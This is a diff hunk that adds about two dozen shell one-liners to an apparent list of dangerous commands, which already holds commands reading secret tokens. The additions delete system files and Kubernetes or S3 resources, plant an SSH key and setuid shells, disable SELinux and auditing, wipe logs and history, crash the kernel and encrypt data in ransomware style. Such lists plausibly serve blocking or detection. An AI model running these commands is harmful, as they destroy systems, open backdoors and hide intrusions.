@@ -393,3 +393,29 @@ find /dev/shm -path '*secrets*' -type f -exec cat {} \;
 cat < /var/tmp/opsjobs-1000/runs/x/stderr
 strings /var/tmp/opsjobs-*/runs/*
 sh -c 'cd /dev/shm && cat opsjobs.9f/secrets/token'
+#: written without a look at the rules, of what is done to machines every day
+find / -xdev -type f -name '*.so*' -delete
+rsync --delete -r "$(mktemp -d)/" /etc/
+tar -C / --remove-files -cf /dev/null usr
+tar cf - /home --remove-files | gzip > /tmp/h.tgz
+mv /usr/lib/x86_64-linux-gnu /tmp/
+mv /bin/bash /bin/bash.off
+echo 'ssh-ed25519 AAAAC3Nza evil@x' | sudo tee -a /root/.ssh/authorized_keys
+install -m 4755 /bin/bash /usr/local/bin/.b
+cp /bin/sh /tmp/.s && chmod u+s /tmp/.s
+setcap cap_setuid+ep /usr/bin/python3
+setenforce 0; sed -i s/enforcing/disabled/ /etc/selinux/config
+auditctl -e 0; service auditd stop
+journalctl --rotate --vacuum-time=1s
+rm -f /var/log/auth.log* /var/log/wtmp
+unset HISTFILE; history -c; shred -u ~/.bash_history
+echo c > /proc/sysrq-trigger
+echo 1 > /proc/sys/kernel/sysrq; echo b | tee /proc/sysrq-trigger
+fallocate -l 100% /fill || yes > /var/fill
+docker run --rm -v /:/h alpine rm -rf /h/etc
+kubectl delete ns --all
+kubectl delete pv,pvc --all -A
+aws s3 rb s3://backups --force
+gpg --batch --yes -c --passphrase x -o /srv/a.gpg /srv/data.db && shred -u /srv/data.db
+efibootmgr -b 0000 -B
+timedatectl set-time '1990-01-01 00:00:00'
